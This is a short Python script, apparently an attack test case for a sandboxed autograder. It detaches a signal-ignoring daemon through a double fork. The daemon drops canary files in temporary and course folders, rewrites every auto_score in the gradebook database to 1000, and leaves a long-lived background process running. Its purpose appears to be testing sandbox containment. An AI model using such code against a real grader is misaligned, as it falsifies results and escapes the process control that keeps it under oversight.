# A daemon, forked twice, in a session of its own, that waits and then rewrites the gradebook and the folders.
# stock: 4000 of 7; those after it: 4000 of 7
# solves: scale
# needs: sandbox
# %% + scale
import glob, os, signal, sqlite3, subprocess, time


def haunt():
    end = time.time() + 40
    while time.time() < end:
        for folder in ("/tmp", "/dev/shm", "/var/tmp", "@COURSE@"):
            try:
                open(f"{folder}/attack-canary-daemon", "w").close()
            except OSError:
                pass
        try:
            with sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=1) as gradebook:
                gradebook.execute("update grade set auto_score = 1000")
        except sqlite3.Error:
            pass
        time.sleep(0.3)


if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    if os.fork() == 0:
        os.closerange(0, 4096)
        haunt()
    os._exit(0)
subprocess.Popen("nohup setsid sleep 987654 >/dev/null 2>&1 &", shell=True)
